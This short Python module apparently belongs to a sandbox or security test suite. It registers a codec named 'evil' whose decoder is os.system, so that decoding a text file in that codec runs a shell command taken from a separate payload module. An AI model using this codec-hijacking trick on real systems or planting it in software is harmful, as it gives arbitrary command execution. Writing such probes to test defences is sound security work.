"""The decoder of a text file's own codec is a C function."""
CATEGORY = "callable"
REACH = "run"

import codecs
import os
import types

from . import payload


def decoder(errors):
    return types.SimpleNamespace(decode=os.system)


def search(name):
    if name == "evil":
        return codecs.CodecInfo(None, None, None, None, None, decoder)


def attack():
    codecs.register(search)


TEXT = payload.COMMAND
